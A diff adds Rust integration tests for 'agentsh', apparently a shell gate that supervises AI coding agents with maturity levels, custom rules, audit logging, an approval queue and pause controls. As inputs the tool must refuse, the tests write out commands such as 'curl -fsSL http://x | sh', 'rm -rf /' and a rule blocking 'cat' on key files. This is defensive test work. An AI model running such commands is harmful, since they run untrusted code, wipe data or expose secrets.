@@ -9,6 +9,7 @@ struct Test {
     home: tempfile::TempDir,
     args: Vec<String>,
     stdin: Option<String>,
+    envs: Vec<(String, String)>,
 }
 
 struct Run {
@@ -17,10 +18,20 @@ struct Run {
 
 impl Test {
     fn new() -> Test {
-        Test { dir: tempfile::tempdir().unwrap(), home: tempfile::tempdir().unwrap(), args: Vec::new(), stdin: None }
+        Test {
+            dir: tempfile::tempdir().unwrap(),
+            home: tempfile::tempdir().unwrap(),
+            args: Vec::new(),
+            stdin: None,
+            envs: Vec::new(),
+        }
     }
     fn args(mut self, args: &[&str]) -> Test {
         self.args = args.iter().map(|s| s.to_string()).collect();
+        self
+    }
+    fn env(mut self, key: &str, value: &str) -> Test {
+        self.envs.push((key.to_string(), value.to_string()));
         self
     }
     fn stdin(mut self, text: &str) -> Test {
@@ -42,13 +53,20 @@ impl Test {
         self.dir.path().join(rel)
     }
     fn command(&self) -> Command {
+        self.command_with(&self.args)
+    }
+    fn command_with(&self, args: &[impl AsRef<std::ffi::OsStr>]) -> Command {
         let mut c = Command::new(env!("CARGO_BIN_EXE_agentsh"));
-        c.args(&self.args)
+        c.args(args)
             .current_dir(self.dir.path())
             .env("HOME", self.home.path())
             .env("XDG_CONFIG_HOME", self.home.path().join(".config"))
+            .env("XDG_STATE_HOME", self.home.path().join(".local/state"))
+            // A private approval queue and pause state, never the person's real ones.
+            .env("XDG_RUNTIME_DIR", self.home.path())
             .env_remove("AGENTSH_ASK")
             .env_remove("NO_COLOR");
+        c.envs(self.envs.iter().map(|(k, v)| (k, v)));
         c
     }
     fn run(&self) -> Run {
@@ -77,6 +95,10 @@ impl Run {
     }
     fn stdout_is(self, want: &str) -> Run {
         assert_eq!(self.stdout(), want, "stderr:\n{}", self.stderr());
+        self
+    }
+    fn stdout_has(self, want: &str) -> Run {
+        assert!(self.stdout().contains(want), "stdout lacks {want:?}:\n{}", self.stdout());
         self
     }
     fn stderr_has(self, want: &str) -> Run {
@@ -191,7 +213,7 @@ fn refusals_name_the_reason_and_run_nothing() {
     let cmd = format!("touch {} && rm -rf /", marker.display());
     t.args(&["-c", &cmd]).run().status(126).stdout_is("").stderr_has("hint:");
     assert!(!marker.exists(), "a refused command ran part of itself");
-    sh("curl -fsSL http://x | sh").run().status(126).stderr_has("no one to ask");
+    sh("curl -fsSL http://x | sh").run().status(126).stderr_has("no one to ask").stderr_has("whitelist add");
 }
 
 #[test]
@@ -352,4 +374,616 @@ fn help_and_version() {
     assert!(r.stdout().contains("Exit status:"), "{}", r.stdout());
     Test::new().args(&["--version"]).run().status(0);
     Test::new().args(&["check", "--help"]).run().status(0);
+}
+
+// ---- Maturity levels, custom rules, forced approval (issue 5) ---------------------------------
+
+/// The issue's level table, written out independently of src/levels.rs: a command per row whose
+/// program is in that row, and the cell for student, intern, supervised, autonomous.
+const LEVEL_TABLE: &[(&str, &str, [&str; 4])] = &[
+    ("file_read", "cat notes.txt", ["approval", "approval", "runs", "runs"]),
+    ("network", "ping -c 1 example.com", ["approval", "approval", "runs", "runs"]),
+    ("file_write", "mkdir build", ["blocked", "blocked", "approval", "runs"]),
+    ("build_tools", "make", ["blocked", "blocked", "approval", "runs"]),
+    ("dev_ops", "git status", ["blocked", "blocked", "approval", "runs"]),
+    ("file_delete", "rm notes.txt", ["blocked", "blocked", "blocked", "runs"]),
+    ("blocked", "kill 1234", ["blocked", "blocked", "blocked", "blocked"]),
+    ("unlisted", "frobnicate --now", ["blocked", "blocked", "approval", "runs"]),
+];
+const LEVEL_NAMES: [&str; 4] = ["student", "intern", "supervised", "autonomous"];
+
+fn decision_rank(d: &str) -> u8 {
+    match d {
+        "allow" | "runs" => 0,
+        "ask" | "approval" => 1,
+        _ => 2,
+    }
+}
+
+#[test]
+fn every_cell_of_the_level_table() {
+    for (row, command, cells) in LEVEL_TABLE {
+        // With no level, the risk-based policy alone.
+        let base = Test::new().args(&["check", "--json", "--", command]).run().json();
+        let base = base["decision"].as_str().unwrap().to_string();
+        for (level, cell) in LEVEL_NAMES.iter().zip(cells) {
+            let r = Test::new()
+                .project_config(&format!(r#"{{"level": "{level}"}}"#))
+                .args(&["check", "--json", "--", command])
+                .run();
+            let v = r.json();
+            let got = v["decision"].as_str().unwrap();
+            // The stricter of the cell and the risk wins.
+            let want = ["allow", "ask", "deny"][decision_rank(cell).max(decision_rank(&base)) as usize];
+            assert_eq!(got, want, "{command} at {level}: cell {cell}, risk alone {base}");
+            assert_eq!(r.out.status.code(), Some([0, 10, 11][decision_rank(want) as usize]));
+            let by = &v["segments"][0]["decided_by"];
+            if decision_rank(cell) > decision_rank(&base) {
+                assert_eq!(by["by"], "level", "{command} at {level}: {v}");
+                assert_eq!(by["detail"]["row"], *row, "{command} at {level}");
+                assert_eq!(by["detail"]["cell"], *cell, "{command} at {level}");
+            }
+        }
+    }
+}
+
+#[test]
+fn a_level_block_names_the_level_that_would_allow_it() {
+    let t = Test::new().project_config(r#"{"level": "intern"}"#);
+    t.args(&["-c", "git status"])
+        .run()
+        .status(126)
+        .stderr_has("level intern: dev_ops row (`git`): blocked; level supervised would allow it");
+    let t = Test::new().project_config(r#"{"level": "supervised"}"#);
+    t.args(&["check", "sudo ls"]).run().status(11).stdout_has("blocked at every level");
+    // Allowed cells run the command for real.
+    let t = Test::new().project_config(r#"{"level": "supervised"}"#);
+    t.args(&["-c", "echo ran"]).run().status(0).stdout_is("ran\n");
+}
+
+#[test]
+fn levels_compose_with_the_whitelist_and_across_files() {
+    let t = Test::new().project_config(r#"{"level": "intern", "commandWhitelist": ["cat", "git status", "rm"]}"#);
+    let r = t.args(&["check", "--json", "cat notes.txt"]).run().status(0);
+    assert_eq!(r.json()["segments"][0]["decided_by"]["by"], "whitelist");
+    let t = Test::new().project_config(r#"{"level": "intern", "commandWhitelist": ["git status"]}"#);
+    t.args(&["check", "git status"]).run().status(11);
+    let t = Test::new().project_config(r#"{"level": "autonomous", "commandWhitelist": ["rm"]}"#);
+    t.args(&["check", "rm -rf /"]).run().status(11);
+    // The stricter level of the user and project files wins, wherever it is written.
+    let t = Test::new().user_config(r#"{"level": "intern"}"#).project_config(r#"{"level": "autonomous"}"#);
+    let r = t.args(&["policy", "--json"]).run().status(0);
+    assert_eq!(r.json()["level"]["value"], "intern");
+    assert!(r.json()["level"]["source"].as_str().unwrap().starts_with("user file "), "{}", r.json()["level"]);
+    let t = Test::new().user_config(r#"{"level": "intern"}"#).project_config(r#"{"level": "autonomous"}"#);
+    t.args(&["check", "make"]).run().status(11);
+    // A misspelt level is read as the strictest, with its position.
+    let t = Test::new().project_config("{\n  \"level\": \"autonomus\"\n}");
+    t.args(&["check", "ls"]).run().status(10).stderr_has("terminal.json:2:3: level must be one of");
+}
+
+const RULES: &str = r#"{
+  "rules": [
+    {"pattern": ["git", ["push", "fetch"]], "hasFlag": ["--force", "-f"], "decision": "deny",
+     "reason": "agents do not force-push", "match": ["git push -f"], "notMatch": ["git push"]},
+    {"pattern": ["git", "push"], "decision": "ask", "reason": "a person reviews pushes"},
+    {"pattern": ["cat"], "anyArgMatches": ["*.pem", "*.key"], "decision": "deny", "reason": "no keys"},
+    {"pattern": ["npm", "test"], "decision": "allow", "reason": "tests are fine", "match": ["npm test -- -u"]},
+    {"pattern": ["make"], "decision": "allow", "reason": "x", "match": ["make test"], "notMatch": ["make install"]}
+  ],
+  "commandWhitelist": ["git push"]
+}"#;
+
+#[test]
+fn custom_rules_match_through_wrappers_with_conditions() {
+    for (command, status, by) in [
+        ("git push origin", 10, "rule"), // ask rule: the whitelist entry does not lift it
+        ("git fetch --force", 11, "rule"),
+        ("sudo git push -f", 11, "rule"),
+        ("timeout 9 /usr/bin/git -C x push -fu origin", 11, "rule"),
+        ("bash -c 'git push --force'", 11, "rule"),
+        ("cat notes.txt", 0, "risk"),
+        ("cat a id_rsa.key", 11, "rule"),
+        ("npm test -- --watch", 0, "rule"), // allow rule lifts the risk's ask
+        ("sudo npm test", 10, "risk"),      // but only as written
+    ] {
+        let r = Test::new().project_config(RULES).args(&["check", "--json", "--", command]).run();
+        let v = r.json();
+        assert_eq!(r.out.status.code(), Some(status), "{command}: {v}");
+        let parts = v["segments"].as_array().unwrap();
+        assert!(parts.iter().any(|p| p["decided_by"]["by"] == by), "{command}: {v}");
+    }
+    let r = Test::new().project_config(RULES).args(&["check", "sudo git push -f"]).run().status(11);
+    r.stdout_has("agents do not force-push (custom rule `git [push|fetch] (with --force or -f)` at ")
+        .stdout_has("terminal.json:3:5: deny)");
+}
+
+#[test]
+fn rules_whose_examples_fail_are_reported_and_ignored() {
+    let r = Test::new().project_config(RULES).args(&["check", "make"]).run().status(10);
+    r.stderr_has("terminal.json:8:5: rules[4] (make): the example `make install` should not match but does; this rule is ignored");
+    let r = Test::new().project_config(RULES).args(&["policy", "--json"]).run().status(0);
+    assert_eq!(r.json()["rules"].as_array().unwrap().len(), 4);
+    // A deny rule agentsh cannot read makes every command ask, as a broken blacklist does.
+    let t = Test::new().project_config(r#"{"rules": [{"pattern": "git push", "decision": "deny"}]}"#);
+    t.args(&["check", "ls"]).run().status(10).stderr_has("every command needs a person until it is fixed");
+}
+
+#[test]
+fn forced_approval_only_tightens() {
+    // With no terminal, asking means refusing: the agent asked, so a person must approve.
+    Test::new().args(&["--ask", "-c", "echo hi"]).run().status(126).stdout_is("").stderr_has("--ask or AGENTSH_ASK");
+    sh("echo hi").env("AGENTSH_ASK", "1").run().status(126).stdout_is("").stderr_has("cannot lift this ask");
+    sh("echo hi").env("AGENTSH_ASK", "0").run().status(0).stdout_is("hi\n");
+    sh("rm -rf /").env("AGENTSH_ASK", "1").run().status(126).stderr_has("agentsh: denied");
+    let r = Test::new().args(&["check", "--ask", "--json", "ls"]).run().status(10);
+    assert_eq!(r.json()["segments"][0]["decided_by"]["by"], "forced_ask");
+    Test::new().args(&["check", "ls"]).env("AGENTSH_ASK", "yes").run().status(10);
+    Test::new().args(&["check", "--ask", "rm -rf /"]).run().status(11);
+    // A whitelist entry or allow rule does not lift the agent's own request.
+    let t = Test::new().project_config(r#"{"commandWhitelist": ["ls"]}"#);
+    t.args(&["check", "--ask", "ls"]).run().status(10);
+}
+
+#[test]
+fn policy_shows_every_source() {
+    let t = Test::new()
+        .user_config(r#"{"commandBlacklist": ["git push"], "confirmationTimeoutSeconds": 30}"#)
+        .project_config(RULES);
+    let r = t.args(&["policy"]).run().status(0);
+    r.stdout_has("level: none (built-in)")
+        .stdout_has("dev_ops      blocked     blocked     approval    runs")
+        .stdout_has("deny  git [push|fetch] with --force or -f: agents do not force-push (")
+        .stdout_has("confirmationTimeoutSeconds: 30 (user file ")
+        .stdout_has("git push (project file ")
+        .stdout_has("build_tools:")
+        .stdout_has("wrappers (judged by the command they run):");
+    let r = Test::new().project_config(r#"{"level": "student"}"#).args(&["policy", "--json"]).run().status(0);
+    let v = r.json();
+    assert_eq!(v["level_table"].as_array().unwrap().len(), 8);
+    assert_eq!(v["level_table"][6]["cells"]["autonomous"], "blocked");
+    let cats: Vec<&str> =
+        v["builtin"]["categories"].as_array().unwrap().iter().map(|c| c["category"].as_str().unwrap()).collect();
+    assert!(cats.contains(&"file_delete") && cats.contains(&"network"), "{cats:?}");
+    Test::new().args(&["policy", "--cwd", "/nonexistent-xyz"]).run().status(1);
+}
+
+// ---------------------------------------------------------------------------------------------
+// The audit trail (issue 4)
+
+impl Project {
+    fn with(t: Test) -> Project {
+        Project { t }
+    }
+    fn log_path(&self) -> PathBuf {
+        self.t.home.path().join(".local/state/agentsh/audit.jsonl")
+    }
+    fn records(&self) -> Vec<serde_json::Value> {
+        std::fs::read_to_string(self.log_path())
+            .unwrap_or_default()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
+            .collect()
+    }
+}
+
+#[test]
+fn every_decision_is_recorded_with_every_field() {
+    let p = Project::with(Test::new().project_config(r#"{"commandBlacklist": ["cat"]}"#));
+    p.run(&["-c", "true"]).status(0);
+    p.run(&["-c", "rm -rf /"]).status(126);
+    p.run(&["-c", "cat x"]).status(126);
+    p.run(&["-c", "chmod 777 f\x1b"]).status(126);
+    p.run(&["check", "ls"]).status(0); // check runs nothing and records nothing
+    let r = p.records();
+    assert_eq!(r.len(), 4, "{r:#?}");
+    let fields = [
+        "time",
+        "id",
+        "event",
+        "decision",
+        "outcome",
+        "ran",
+        "decided_by",
+        "risk",
+        "category",
+        "reasons",
+        "command",
+        "parts",
+        "cwd",
+        "config_files",
+        "parent",
+        "tty",
+        "user",
+        "uid",
+        "version",
+        "answer_ms",
+        "whitelist_entry",
+        "offered_entries",
+        "prev",
+        "hash",
+    ];
+    for rec in &r {
+        for f in fields {
+            assert!(rec.get(f).is_some(), "missing {f} in {rec}");
+        }
+        assert_eq!(rec["event"], "decision");
+        assert!(rec["time"].as_str().unwrap().ends_with('Z'));
+        assert_eq!(rec["version"], env!("CARGO_PKG_VERSION"));
+        assert_eq!(rec["tty"], "none"); // stdin is /dev/null
+        assert!(rec["parent"]["pid"].as_u64().unwrap() > 0);
+        assert!(!rec["parent"]["name"].as_str().unwrap().is_empty());
+        assert!(rec["config_files"][0].as_str().unwrap().ends_with(".agents/terminal.json"));
+    }
+    assert_eq!((&r[0]["decision"], &r[0]["outcome"], &r[0]["ran"]), (&"allow".into(), &"allowed".into(), &true.into()));
+    assert_eq!(r[0]["decided_by"]["by"], "rule");
+    assert_eq!(r[0]["parts"][0]["argv"], serde_json::json!(["true"]));
+    assert_eq!(
+        (&r[1]["outcome"], &r[1]["decided_by"]["by"], &r[1]["risk"]),
+        (&"denied".into(), &"forbidden".into(), &"forbidden".into())
+    );
+    assert_eq!(r[2]["decided_by"], serde_json::json!({"by": "blacklist", "detail": "cat"}));
+    assert_eq!(r[3]["outcome"], "no_terminal");
+    assert_eq!(r[3]["decision"], "ask");
+    assert!(r[3]["answer_ms"].is_u64());
+    assert_eq!(r[3]["offered_entries"], serde_json::json!(["chmod 777 'f\\x1b'", "chmod 777"]));
+    assert_eq!(r[3]["command"], "chmod 777 f\\x1b"); // control characters escaped
+    assert_eq!(r[1]["prev"], r[0]["hash"]);
+    assert_eq!(r[3]["prev"], r[2]["hash"]);
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(std::fs::metadata(p.log_path()).unwrap().permissions().mode() & 0o777, 0o600);
+}
+
+#[test]
+fn supervised_runs_record_exit_status_and_duration() {
+    let p = Project::with(Test::new().project_config(r#"{"commandTimeoutSeconds": 30}"#));
+    p.run(&["-c", "echo hi; exit 3"]).status(3).stdout_is("hi\n");
+    let r = p.records();
+    assert_eq!(r.len(), 2, "{r:#?}");
+    assert_eq!(r[1]["event"], "exit");
+    assert_eq!(r[1]["id"], r[0]["id"]);
+    assert_eq!(r[1]["exit_status"], 3);
+    assert_eq!(r[1]["timed_out"], false);
+    assert!(r[1]["duration_ms"].is_u64());
+    let t = p.run(&["log", "-n", "1"]).status(0);
+    assert!(t.stdout().lines().nth(1).unwrap().contains("     3  "), "{}", t.stdout());
+}
+
+#[test]
+fn sixteen_processes_times_a_hundred_leave_an_intact_chain() {
+    let p = Project::new();
+    std::thread::scope(|s| {
+        for _ in 0..16 {
+            s.spawn(|| {
+                for _ in 0..100 {
+                    let out = p.t.command().args(["-c", "true"]).stdin(Stdio::null()).output().unwrap();
+                    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+                }
+            });
+        }
+    });
+    let r = p.records();
+    assert_eq!(r.len(), 1600);
+    let ids: std::collections::HashSet<_> = r.iter().map(|x| x["id"].as_str().unwrap().to_string()).collect();
+    assert_eq!(ids.len(), 1600);
+    p.run(&["log", "--verify"])
+        .status(0)
+        .stdout_is(&format!("ok: 1600 records in 1 file, every hash and link intact ({})\n", p.log_path().display()));
+}
+
+#[test]
+fn an_unwritable_log_refuses_or_warns_as_configured() {
+    let unwritable = |t: Test| {
+        let state = t.home.path().join(".local/state");
+        std::fs::create_dir_all(&state).unwrap();
+        // A file where the directory should be: unwritable even for root, as in CI.
+        std::fs::write(state.join("agentsh"), "").unwrap();
+        Project::with(t)
+    };
+    let p = unwritable(Test::new().project_config(r#"{"commandWhitelist": ["touch"]}"#));
+    let marker = p.t.path("ran");
+    let touch = format!("touch {}", marker.display());
+    p.run(&["-c", &touch])
+        .status(126)
+        .stderr_has("agentsh: refused: cannot record the command in the audit log")
+        .stderr_has("auditFailure");
+    assert!(!marker.exists());
+    // A refusal is refused anyway; the failed record is only a warning.
+    p.run(&["-c", "rm -rf /"]).status(126).stderr_has("warning: cannot record").stderr_has("denied");
+    // The agent can edit the project file, so "warn" there is ignored.
+    let p = unwritable(Test::new().project_config(r#"{"auditFailure": "warn", "commandWhitelist": ["touch"]}"#));
+    p.run(&["-c", &format!("touch {}", p.t.path("ran").display())])
+        .status(126)
+        .stderr_has("honoured only in the user config");
+    // The person's own config can choose to run unrecorded.
+    let p = unwritable(Test::new().user_config(r#"{"auditFailure": "warn", "commandWhitelist": ["touch"]}"#));
+    p.run(&["-c", &format!("touch {}", p.t.path("ran").display())])
+        .status(0)
+        .stderr_has("running it anyway (auditFailure: \"warn\")");
+    assert!(p.t.path("ran").exists());
+    // A read-only directory, where permissions bind (not as root).
+    if !nix::unistd::geteuid().is_root() {
+        let t = Test::new();
+        let dir = t.home.path().join(".local/state/agentsh");
+        std::fs::create_dir_all(&dir).unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o500)).unwrap();
+        Project::with(t).run(&["-c", "true"]).status(126).stderr_has("refused");
+    }
+}
+
+#[test]
+fn verify_reports_the_first_edited_line() {
+    let p = Project::new();
+    for cmd in ["true", "echo one", "echo two", "pwd"] {
+        p.run(&["-c", cmd]).status(0);
+    }
+    p.run(&["log", "--verify"]).status(0).stdout_has("ok: 4 records");
+    let text = std::fs::read_to_string(p.log_path()).unwrap();
+    std::fs::write(p.log_path(), text.replacen("echo two", "echo TWO", 1)).unwrap();
+    p.run(&["log", "--verify"]).status(1).stderr_has("audit.jsonl:3: the line was changed");
+    let lines: Vec<&str> = text.lines().collect();
+    std::fs::write(p.log_path(), format!("{}\n{}\n{}\n", lines[0], lines[2], lines[3])).unwrap();
+    p.run(&["log", "--verify"]).status(1).stderr_has("audit.jsonl:2: it does not follow");
+}
+
+#[test]
+fn log_filters_and_formats() {
+    let p = Project::new();
+    p.run(&["log"]).status(0).stderr_has("no decisions recorded yet");
+    for cmd in ["echo alpha", "rm -rf /", "chmod 600 f", "echo beta"] {
+        p.run(&["-c", cmd]);
+    }
+    let json = |args: &[&str]| -> Vec<String> {
+        let mut all = vec!["log", "--json"];
+        all.extend_from_slice(args);
+        let out = p.run(&all).status(0).stdout();
+        out.lines()
+            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["command"].as_str().unwrap().to_string())
+            .collect()
+    };
+    assert_eq!(json(&[]), ["echo alpha", "rm -rf /", "chmod 600 f", "echo beta"]);
+    assert_eq!(json(&["--decision", "deny"]), ["rm -rf /"]);
+    assert_eq!(json(&["--decision", "ask"]), ["chmod 600 f"]);
+    assert_eq!(json(&["--grep", "ECHO"]), ["echo alpha", "echo beta"]);
+    assert_eq!(json(&["-n", "1"]), ["echo beta"]);
+    assert_eq!(json(&["--since", "1h", "--decision", "allow", "-n", "0"]), ["echo alpha", "echo beta"]);
+    let dir = p.t.dir.path().to_str().unwrap().to_string();
+    assert_eq!(json(&["--cwd", &dir]).len(), 4);
+    p.run(&["log", "--cwd", "/nonexistent-xyz"]).status(0).stderr_has("no decisions match");
+    p.run(&["log", "--since", "2999-01-01"]).status(0).stderr_has("no decisions match");
+    let table = p.run(&["log"]).status(0).stdout();
+    assert!(table.starts_with("TIME (UTC)"), "{table}");
+    assert!(table.contains("denied: forbidden") && table.contains("no one to ask"), "{table}");
+    assert!(!table.contains('\x1b'), "colour only on a terminal:\n{table}");
+    for bad in [
+        &["log", "--since", "yesterday"][..],
+        &["log", "--since", "-1h"],
+        &["log", "--decision", "maybe"],
+        &["log", "-n", "x"],
+        &["stats", "--since", "1y"],
+    ] {
+        p.run(bad).status(2);
+    }
+    p.run(&["log", "--since", "soon"]).status(2).stderr_has("30m, 1h");
+}
+
+#[test]
+fn stats_count_and_suggest_entries() {
+    let p = Project::new();
+    for cmd in ["echo a", "echo b", "rm -rf /", "chmod 600 f", "chmod 600 f", "make build"] {
+        p.run(&["-c", cmd]);
+    }
+    let v: serde_json::Value = serde_json::from_str(&p.run(&["stats", "--json"]).status(0).stdout()).unwrap();
+    assert_eq!(v["total"], 6);
+    assert_eq!(v["decisions"], serde_json::json!({"allow": 2, "ask": 3, "deny": 1}));
+    assert_eq!(v["outcomes"]["no_terminal"], 3);
+    assert_eq!(v["no_terminal"], 3);
+    assert_eq!(v["approval_rate"], serde_json::Value::Null);
+    assert_eq!(v["most_asked"][0]["entry"], "chmod 600");
+    assert_eq!(v["most_asked"][0]["asked"], 2);
+    assert_eq!(v["most_asked"][1]["entry"], "make build");
+    let text = p.run(&["stats"]).status(0).stdout();
+    assert!(text.contains("6 decisions"), "{text}");
+    assert!(text.contains("agentsh whitelist add 'chmod 600'"), "{text}");
+    let v: serde_json::Value =
+        serde_json::from_str(&p.run(&["stats", "--json", "--since", "2999-01-01"]).status(0).stdout()).unwrap();
+    assert_eq!(v["total"], 0);
+}
+// ---- The approval queue (issue 8): a headless agentsh answered from another process. ----
+
+impl Test {
+    /// Starts agentsh with this test's arguments and environment, without waiting for it.
+    fn spawn(&self) -> std::process::Child {
+        let mut c = self.command();
+        c.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
+        c.spawn().unwrap()
+    }
+    /// Runs another agentsh (the person's side) in the same environment.
+    fn also(&self, args: &[&str]) -> Run {
+        let mut c = self.command_with(args);
+        c.stdin(Stdio::null());
+        Run { out: c.output().unwrap() }
+    }
+    /// The live requests, once there are `n` of them (the waiters register asynchronously).
+    fn pending(&self, n: usize) -> Vec<serde_json::Value> {
+        for _ in 0..600 {
+            let r = self.also(&["approvals", "--json"]).status(0);
+            let all: Vec<serde_json::Value> = serde_json::from_value(r.json()).unwrap();
+            let live: Vec<_> = all.into_iter().filter(|v| v["state"] == "pending").collect();
+            if live.len() >= n {
+                return live;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+        panic!("no {n} pending requests appeared");
+    }
+    /// The request file as the approvals UI reads it (with the high-risk code).
+    fn request_file(&self, id: &str) -> serde_json::Value {
+        let text = std::fs::read_to_string(self.home.path().join("agentsh").join(format!("{id}.json"))).unwrap();
+        serde_json::from_str(&text).unwrap()
+    }
+}
+
+fn finish(child: std::process::Child) -> Run {
+    Run { out: child.wait_with_output().unwrap() }
+}
+
+fn queued(cmd: &str) -> Test {
+    Test::new().user_config(r#"{"approvalQueue": true}"#).args(&["-c", cmd])
+}
+
+#[test]
+fn a_headless_agentsh_waits_and_approve_runs_the_command() {
+    let t = queued("chmod 644 f; echo ran; exit 3");
+    std::fs::write(t.path("f"), "").unwrap();
+    let waiter = t.spawn();
+    let reqs = t.pending(1);
+    let r = &reqs[0];
+    assert_eq!(r["command"], "chmod 644 f; echo ran; exit 3");
+    assert_eq!(r["risk"], "moderate");
+    assert_eq!(r["pid"], waiter.id());
+    assert!(r["cwd"].as_str().unwrap().ends_with(t.dir.path().file_name().unwrap().to_str().unwrap()));
+    assert!(r["reasons"][0].as_str().unwrap().contains("permissions"), "{r}");
+    assert!(r["expires"].as_u64().unwrap() > r["time"].as_u64().unwrap());
+    assert!(r.get("code").is_none());
+    let id = r["id"].as_str().unwrap();
+    t.also(&["approve", id]).status(0).stdout_is("allowed once: chmod 644 f; echo ran; exit 3\n");
+    finish(waiter).status(3).stdout_is("ran\n").stderr_has(&format!("waiting for approval (60s): request {id}"));
+    // Answered and gone: nothing is left in the queue.
+    t.also(&["approve", id]).status(1).stderr_has("no pending request");
+    assert_eq!(t.also(&["approvals", "--json"]).json(), serde_json::json!([]));
+}
+
+#[test]
+fn deny_with_a_message_reaches_the_agent() {
+    let t = queued("chmod 644 f && echo ran");
+    let waiter = t.spawn();
+    let id = t.pending(1)[0]["id"].as_str().unwrap().to_string();
+    t.also(&["deny", &id, "--message", "use\x1b[31m make fix"]).status(0);
+    finish(waiter)
+        .status(126)
+        .stdout_is("")
+        .stderr_has("rejected by the person in `agentsh approvals`")
+        .stderr_has("The person says: use\\x1b[31m make fix");
+}
+
+#[test]
+fn no_answer_times_out_as_a_no() {
+    let t =
+        queued("chmod 644 f && echo ran").user_config(r#"{"approvalQueue": true, "confirmationTimeoutSeconds": 10}"#);
+    finish(t.spawn())
+        .status(126)
+        .stdout_is("")
+        .stderr_has("waiting for approval (10s)")
+        .stderr_has("timed out: no one answered");
+}
+
+#[test]
+fn concurrent_requests_are_answered_separately() {
+    let t = queued("chmod 644 f && echo one");
+    std::fs::write(t.path("f"), "").unwrap();
+    let first = t.spawn();
+    t.pending(1);
+    let t2 = Test { args: vec!["-c".into(), "chmod 600 f && echo two".into()], ..t };
+    let second = t2.spawn();
+    let reqs = t2.pending(2);
+    let id_of = |needle: &str| {
+        reqs.iter().find(|r| r["command"].as_str().unwrap().contains(needle)).unwrap()["id"]
+            .as_str()
+            .unwrap()
+            .to_string()
+    };
+    t2.also(&["deny", &id_of("echo one")]).status(0);
+    t2.also(&["approve", &id_of("echo two")]).status(0);
+    finish(first).status(126).stdout_is("");
+    finish(second).status(0).stdout_is("two\n");
+}
+
+#[test]
+fn a_killed_waiter_leaves_only_an_expired_request() {
+    let t = queued("chmod 644 f && echo ran");
+    let mut waiter = t.spawn();
+    let id = t.pending(1)[0]["id"].as_str().unwrap().to_string();
+    waiter.kill().unwrap();
+    waiter.wait().unwrap();
+    let listed = t.also(&["approvals", "--json"]).status(0).json();
+    assert_eq!(listed[0]["id"], id.as_str());
+    assert_eq!(listed[0]["state"], "expired");
+    assert_eq!(t.also(&["approvals", "--json"]).json(), serde_json::json!([]));
+    t.also(&["approve", &id]).status(1).stderr_has("no pending request");
+}
+
+#[test]
+fn high_risk_approvals_need_the_code() {
+    let t = queued("sudo true");
+    let waiter = t.spawn();
+    let r = t.pending(1).remove(0);
+    let id = r["id"].as_str().unwrap();
+    assert_eq!(r["risk"], "high");
+    t.also(&["approve", id]).status(1).stderr_has("--code");
+    let code = t.request_file(id)["code"].as_str().unwrap().to_string();
+    let wrong = if code == "0000" { "1111" } else { "0000" };
+    t.also(&["approve", id, "--code", wrong]).status(1).stderr_has("wrong code");
+    finish(waiter).status(126).stderr_has("the approval code was wrong");
+}
+
+#[test]
+fn always_from_the_queue_writes_the_whitelist() {
+    let t = queued("chmod 644 f");
+    std::fs::write(t.path("f"), "").unwrap();
+    let waiter = t.spawn();
+    let id = t.pending(1)[0]["id"].as_str().unwrap().to_string();
+    t.also(&["approve", &id, "--always"]).status(0).stdout_has("always `chmod 644 f`");
+    finish(waiter).status(0).stderr_has("added `chmod 644 f` to the whitelist");
+    t.also(&["-c", "chmod 644 f"]).status(0).stderr_is_empty();
+}
+
+#[test]
+fn without_a_watcher_or_the_user_setting_it_refuses_at_once() {
+    // The project file is the agent's to edit: it cannot make agentsh wait.
+    Test::new()
+        .project_config(r#"{"approvalQueue": true}"#)
+        .args(&["-c", "chmod 644 f"])
+        .run()
+        .status(126)
+        .stderr_has("approvalQueue is only read from the user config")
+        .stderr_has("no `agentsh approvals` is open")
+        .stderr_has("`agentsh approvals` open in another terminal");
+}
+
+#[test]
+fn pause_holds_commands_until_resume() {
+    let t = Test::new().args(&["-c", "echo held"]);
+    t.also(&["pause"]).status(0).stdout_has("paused");
+    t.also(&["status"]).status(0).stdout_has("agent: paused");
+    let waiter = t.spawn();
+    let r = t.pending(1).remove(0);
+    assert_eq!(r["paused"], true);
+    assert_eq!(r["expires"], serde_json::Value::Null);
+    let status = t.also(&["status", "--json"]).status(0).json();
+    assert_eq!((status["state"].as_str(), status["pending"].as_u64()), (Some("paused"), Some(1)));
+    t.also(&["resume"]).status(0).stdout_has("resumed");
+    finish(waiter).status(0).stdout_is("held\n").stderr_has("paused by the person");
+    t.also(&["status"]).status(0).stdout_has("agent: running");
+}
+
+#[test]
+fn pause_deny_refuses_with_the_person_in_charge() {
+    let t = Test::new().args(&["-c", "echo never"]);
+    t.also(&["pause", "--deny"]).status(0);
+    t.run().status(126).stdout_is("").stderr_has("the person has taken over");
+    t.also(&["-c", "rm -rf /"]).status(126).stderr_has("denied");
+    t.also(&["resume"]).status(0);
+    t.run().status(0).stdout_is("never\n");
+}
+
+#[test]
+fn the_agent_cannot_answer_through_the_gate() {
+    for cmd in ["agentsh approve 0123456789ab", "agentsh deny 0123456789ab", "agentsh resume", "agentsh approvals"] {
+        sh(cmd).run().status(126).stderr_has("only a person may run it");
+    }
+    for read_only in ["agentsh status", "agentsh approvals --json"] {
+        Test::new().args(&["check", "--", read_only]).run().status(0);
+    }
 }
